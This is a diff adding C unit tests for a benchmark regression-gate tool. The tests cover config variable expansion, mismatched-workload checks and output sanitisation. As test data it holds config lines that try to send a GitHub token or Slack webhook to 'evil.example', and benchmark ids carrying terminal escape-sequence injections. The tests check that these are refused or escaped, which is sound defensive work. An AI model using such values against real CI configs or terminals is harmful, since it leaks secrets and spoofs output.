@@ -12,6 +12,7 @@
 #include <check.h>
 #include <hdf5.h>
 #include <math.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -201,25 +202,60 @@ END_TEST
 
 START_TEST(test_config_env_expansion)
 {
-    setenv("LB_GATE_T_HOOK", "https://hooks.example/abc", 1);
-    setenv("LB_GATE_T_DIR", "/srv/bench", 1);
-    unsetenv("LB_GATE_T_UNSET");
+    setenv("LATENTBENCH_WEBHOOK_T", "https://hooks.example/abc/x?y=$1", 1);
     const char *text = "[regression_actions.notifications]\n"
-                       "slack_webhook = \"${LB_GATE_T_HOOK}/x?y=$1\"\n"
-                       "email = \"${LB_GATE_T_UNSET}team@example.com\"\n"
+                       "slack_webhook = \"${LATENTBENCH_WEBHOOK_T}\"\n"
+                       "email = \"team@example.com\"\n"
                        "[baseline_management]\n"
-                       "directory = \"${LB_GATE_T_DIR}/baselines\"\n"
+                       "directory = \"/srv/bench/baselines\"\n"
                        "max_history_count = 7\n";
     lb_gate_config c;
     lb_gate_config_defaults(&c);
     char err[512] = "", path[600];
     int rc = load_text(text, &c, NULL, err, sizeof err, path, sizeof path);
     ck_assert_msg(rc == LB_OK, "%s", err);
-    ck_assert_str_eq(c.slack_webhook, "https://hooks.example/abc/x?y=$1");
+    ck_assert_str_eq(c.slack_webhook, "https://hooks.example/abc/x?y=$1"); /* the value is not expanded again */
     ck_assert_str_eq(c.email, "team@example.com");
     ck_assert_str_eq(c.baseline_dir, "/srv/bench/baselines");
     ck_assert_int_eq(c.max_history_count, 7);
     lb_gate_config_free(&c);
+    unsetenv("LATENTBENCH_WEBHOOK_T");
+    lb_gate_config_defaults(&c);
+    rc = load_text(text, &c, NULL, err, sizeof err, path, sizeof path);
+    ck_assert_msg(rc == LB_OK, "%s", err);
+    ck_assert_str_eq(c.slack_webhook, ""); /* unset: no webhook */
+    lb_gate_config_free(&c);
+}
+END_TEST
+
+/* A config file comes with pull requests: no other variable is read, and no
+ * error shows a value. */
+START_TEST(test_config_env_secrets)
+{
+    static const char *const BAD[] = {
+        "slack_webhook = \"${GITHUB_TOKEN}\"\n",
+        "slack_webhook = \"https://evil.example/${SLACK_WEBHOOK_URL}\"\n",
+        "slack_webhook = \"${SLACK_WEBHOOK_URL}?t=${LATENTBENCH_WEBHOOK_X}\"\n",
+        "slack_webhook = \"${LATENTBENCH_WEBHOOK_}\"\n",
+        "email = \"${LATENTBENCH_WEBHOOK_URL}\"\n",
+    };
+    setenv("GITHUB_TOKEN", "ghp_s3cr3t", 1);
+    setenv("SLACK_WEBHOOK_URL", "https://hooks.example/s3cr3t", 1);
+    setenv("LATENTBENCH_WEBHOOK_URL", "https://hooks.example/s3cr3t", 1);
+    for (size_t i = 0; i < sizeof BAD / sizeof BAD[0]; i++) {
+        char text[300], err[512] = "", path[600];
+        snprintf(text, sizeof text, "[regression_actions.notifications]\n%s", BAD[i]);
+        lb_gate_config c;
+        lb_gate_config_defaults(&c);
+        int rc = load_text(text, &c, NULL, err, sizeof err, path, sizeof path);
+        ck_assert_msg(rc == LB_EDATA, "case %zu: rc %d", i, rc);
+        assert_one_line(err);
+        ck_assert_msg(!strstr(err, "s3cr3t"), "case %zu leaked: %s", i, err);
+        lb_gate_config_free(&c);
+    }
+    unsetenv("GITHUB_TOKEN");
+    unsetenv("SLACK_WEBHOOK_URL");
+    unsetenv("LATENTBENCH_WEBHOOK_URL");
 }
 END_TEST
 
@@ -279,6 +315,8 @@ static const struct {
     {"[regression_actions.notifications]\nslack_webhook = 5\n", "2:17", "expected a string, found an integer"},
     {"[regression_actions.notifications]\nemail = \"${BROKEN\"\n", "2:9", "malformed ${VAR}"},
     {"[regression_actions.notifications]\nemail = \"${}\"\n", "2:9", "malformed ${VAR}"},
+    {"[regression_actions.notifications]\nslack_webhook = \"${HOME}\"\n", "2:17", "${HOME} is not an allowed variable"},
+    {"[baseline_management]\ndirectory = \"${HOME}/b\"\n", "2:13", "${HOME} is not expanded here"},
     {"[baseline_management]\nmax_history_count = 2.5\n", "2:21", "expected an integer, found a float"},
     {"[baseline_management]\nmax_history_count = 0\n", "2:21", "at least 1"},
     {"[baseline_management]\ndirectory = \"\"\n", "2:13", "must not be empty"},
@@ -803,6 +841,152 @@ START_TEST(test_unusable_samples)
 }
 END_TEST
 
+/* Rows that measured different things are refused, not compared: same id,
+ * another workload; an id twice in one file; no id in common. */
+START_TEST(test_refuses_different_workloads)
+{
+    static const spec two[] = {
+        {"knn_search/dim_128/10", 60e3, 0.0, 20, 1000000, 100},
+        {"add_embedding/128", 80e3, 0.0, 20, 1000000, 100},
+    };
+    lb_gate_config c;
+    lb_gate_config_defaults(&c);
+    synth *a = make_synth(two, 2, 0, 3), *b = make_synth(two, 2, 1, 3);
+    lb_comparison cmp;
+    char err[512];
+    static const struct {
+        size_t off;
+        int str;
+        const char *name, *want;
+    } FIELDS[] = {
+        {offsetof(lb_row, dimension), 0, "dimension", "dimension 128 in the baseline, 4096 in the current file"},
+        {offsetof(lb_row, k), 0, "k", "k 128 in the baseline, 4096 in the current file"},
+        {offsetof(lb_row, dataset_size), 0, "dataset_size", "dataset_size 128 in the baseline, 4096"},
+        {offsetof(lb_row, batch_size), 0, "batch_size", "batch_size 128"},
+        {offsetof(lb_row, seq_len), 0, "seq_len", "seq_len 128"},
+        {offsetof(lb_row, num_heads), 0, "num_heads", "num_heads 128"},
+        {offsetof(lb_row, num_experts), 0, "num_experts", "num_experts 128"},
+        {offsetof(lb_row, metric), 1, "metric", "metric 'Euclidean' in the baseline, 'Cosine' in the current file"},
+        {offsetof(lb_row, attention), 1, "attention", "attention 'Euclidean' in the baseline, 'Cosine'"},
+        {offsetof(lb_row, op), 1, "op", "op 'Euclidean' in the baseline, 'Cosine'"},
+    };
+    for (size_t i = 0; i < sizeof FIELDS / sizeof FIELDS[0]; i++) {
+        lb_row ra = a->rows[0], rb = b->rows[0];
+        if (FIELDS[i].str) {
+            snprintf((char *)&a->rows[0] + FIELDS[i].off, LB_NAME_LEN, "Euclidean");
+            snprintf((char *)&b->rows[0] + FIELDS[i].off, LB_NAME_LEN, "Cosine");
+        } else {
+            int64_t x = 128, y = 4096;
+            memcpy((char *)&a->rows[0] + FIELDS[i].off, &x, sizeof x);
+            memcpy((char *)&b->rows[0] + FIELDS[i].off, &y, sizeof y);
+        }
+        ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+        assert_one_line(err);
+        ck_assert_msg(strstr(err, "benchmark 'knn_search/dim_128/10' measured different workloads: ") == err &&
+                          strstr(err, FIELDS[i].want),
+                      "%s: %s", FIELDS[i].name, err);
+        a->rows[0] = ra;
+        b->rows[0] = rb;
+    }
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_OK);
+    lb_comparison_free(&cmp);
+
+    /* an unset metric or attention is the default one, and names are read in any case */
+    {
+        lb_row ra = a->rows[0], rb = b->rows[0];
+        snprintf(a->rows[0].metric, LB_NAME_LEN, "%s", "");
+        snprintf(b->rows[0].metric, LB_NAME_LEN, "%s", "euclidean");
+        snprintf(a->rows[0].attention, LB_NAME_LEN, "%s", "Standard");
+        snprintf(b->rows[0].attention, LB_NAME_LEN, "%s", "");
+        ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_OK);
+        lb_comparison_free(&cmp);
+        snprintf(b->rows[0].metric, LB_NAME_LEN, "%s", "Cosine");
+        ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+        ck_assert_msg(strstr(err, "metric 'Euclidean' in the baseline, 'Cosine' in the current file"), "%s", err);
+        a->rows[0] = ra;
+        b->rows[0] = rb;
+    }
+
+    /* an id twice in one file: which row is "the" benchmark is arbitrary */
+    lb_row keep = b->rows[1];
+    snprintf(b->rows[1].id, sizeof b->rows[1].id, "%s", b->rows[0].id);
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+    assert_one_line(err);
+    ck_assert_str_eq(err, "current: benchmark id 'knn_search/dim_128/10' appears twice (rows 1 and 2)");
+    lb_gate_name_files(err, sizeof err, "b.h5", "c.h5");
+    ck_assert_str_eq(err, "c.h5: benchmark id 'knn_search/dim_128/10' appears twice (rows 1 and 2)");
+    ck_assert_int_eq(lb_gate_check_ids(&b->r, "x.h5", err, sizeof err), LB_EDATA);
+    ck_assert_str_eq(err, "x.h5: benchmark id 'knn_search/dim_128/10' appears twice (rows 1 and 2)");
+    ck_assert_int_eq(lb_gate_check_ids(&a->r, "y.h5", err, sizeof err), LB_OK);
+    b->rows[1] = keep;
+    snprintf(a->rows[0].id, sizeof a->rows[0].id, "%s", a->rows[1].id);
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+    ck_assert_msg(strncmp(err, "baseline: benchmark id 'add_embedding/128' appears twice", 56) == 0, "%s", err);
+
+    /* nothing in common: no evidence of "no change" */
+    snprintf(a->rows[0].id, sizeof a->rows[0].id, "other/1");
+    snprintf(a->rows[1].id, sizeof a->rows[1].id, "other/2");
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+    ck_assert_str_eq(err, "no benchmark ids in common: the baseline has 2 benchmarks, the current file 2");
+    a->r.nrows = 0;
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+
+    /* an id with escape sequences is made visible in the message */
+    a->r.nrows = 2;
+    snprintf(a->rows[0].id, sizeof a->rows[0].id, "x\033[2J");
+    snprintf(b->rows[0].id, sizeof b->rows[0].id, "x\033[2J");
+    a->rows[0].dimension = 1;
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_EDATA);
+    ck_assert_msg(!strchr(err, '\033') && strstr(err, "'x\\x1B[2J'"), "%s", err);
+    free(a);
+    free(b);
+    lb_gate_config_free(&c);
+}
+END_TEST
+
+/* The change shown beside the CI is the statistic the CI is about: the mean's
+ * change lies inside its interval; the terminal view sanitises file text. */
+START_TEST(test_point_estimate_inside_ci)
+{
+    lb_gate_config c;
+    lb_gate_config_defaults(&c);
+    lb_comparison cmp;
+    lb_results base, cur;
+    char err[512];
+    ck_assert_int_eq(compare_files(SCENARIO, sizeof SCENARIO / sizeof SCENARIO[0], &c, &cmp, &base, &cur), LB_OK);
+    for (size_t i = 0; i < cmp.nrows; i++) {
+        const lb_comparison_row *r = &cmp.rows[i];
+        if (!r->base || !r->cur) continue;
+        ck_assert_msg(r->ci_low_pct <= r->mean_change_pct && r->mean_change_pct <= r->ci_high_pct,
+                      "%s: mean change %g outside [%g, %g]", r->id, r->mean_change_pct, r->ci_low_pct, r->ci_high_pct);
+    }
+    lb_comparison_free(&cmp);
+    lb_results_free(&base);
+    lb_results_free(&cur);
+    (void)err;
+
+    static const spec one[] = {{"knn/\033]0;owned\007\033[31m", 60e3, 0.0, 20, 1000000, 100}};
+    synth *a = make_synth(one, 1, 0, 5), *b = make_synth(one, 1, 1, 5);
+    char evil_machine[] = "cpu\033[2J; 1 cores", evil_commit[] = "abc\r\033[Kforged";
+    b->r.meta.machine = evil_machine;
+    b->r.meta.git_commit = evil_commit;
+    ck_assert_int_eq(lb_gate_compare(&a->r, &b->r, &c, &cmp, err, sizeof err), LB_OK);
+    char *text = NULL;
+    size_t len = 0;
+    FILE *f = open_memstream(&text, &len);
+    lb_gate_print_terminal(f, &cmp, false);
+    lb_gate_write_markdown(f, &cmp);
+    fclose(f);
+    ck_assert_msg(!strchr(text, '\033') && !strchr(text, '\007') && !strchr(text, '\r'), "%s", text);
+    ck_assert_ptr_nonnull(strstr(text, "knn/\\x1B]0;owned\\x07\\x1B[31m"));
+    free(text);
+    lb_comparison_free(&cmp);
+    free(a);
+    free(b);
+    lb_gate_config_free(&c);
+}
+END_TEST
+
 /* ---- reports ------------------------------------------------------------------------ */
 
 static char *slurp(const char *path, size_t *len)
@@ -912,6 +1096,22 @@ static void set_version(hid_t f, int v)
     H5Sclose(s);
 }
 
+/* A fixed-length string attribute, as the current schema stores them. */
+static void put_fstr_attr(hid_t loc, const char *name, const char *value)
+{
+    if (H5Aexists(loc, name) > 0) ck_assert_int_ge(H5Adelete(loc, name), 0);
+    hid_t t = H5Tcopy(H5T_C_S1);
+    H5Tset_size(t, strlen(value) + 1);
+    H5Tset_strpad(t, H5T_STR_NULLTERM);
+    hid_t s = H5Screate(H5S_SCALAR);
+    hid_t a = H5Acreate2(loc, name, t, s, H5P_DEFAULT, H5P_DEFAULT);
+    ck_assert_int_ge(a, 0);
+    ck_assert_int_ge(H5Awrite(a, t, value), 0);
+    H5Aclose(a);
+    H5Sclose(s);
+    H5Tclose(t);
+}
+
 static void copy_prefix(const char *from, const char *to, size_t len)
 {
     size_t n = 0;
@@ -960,7 +1160,7 @@ START_TEST(test_damaged_baselines)
     copy_prefix(good, bad, n);
     hid_t f = H5Fopen(bad, H5F_ACC_RDWR, H5P_DEFAULT);
     ck_assert_int_ge(f, 0);
-    lbt_put_vstr_attr(f, "schema", "other-results");
+    put_fstr_attr(f, "schema", "other-results");
     H5Fclose(f);
     expect_refused(bad, "schema is 'other-results'");
 
@@ -988,6 +1188,7 @@ static Suite *gate_suite(void)
     tcase_add_test(tc, test_config_group_mapping);
     tcase_add_test(tc, test_config_patterns_first_match);
     tcase_add_test(tc, test_config_env_expansion);
+    tcase_add_test(tc, test_config_env_secrets);
     tcase_add_test(tc, test_config_unknown_keys_warn);
     tcase_add_loop_test(tc, test_config_errors, 0, (int)(sizeof CONFIG_ERRORS / sizeof CONFIG_ERRORS[0]));
     tcase_add_test(tc, test_config_missing_file);
@@ -1001,6 +1202,8 @@ static Suite *gate_suite(void)
     tcase_add_test(tc, test_power_and_false_alarms);
     tcase_add_test(tc, test_rounds);
     tcase_add_test(tc, test_unusable_samples);
+    tcase_add_test(tc, test_refuses_different_workloads);
+    tcase_add_test(tc, test_point_estimate_inside_ci);
     suite_add_tcase(s, tc);
 
     tc = tcase_create("report");
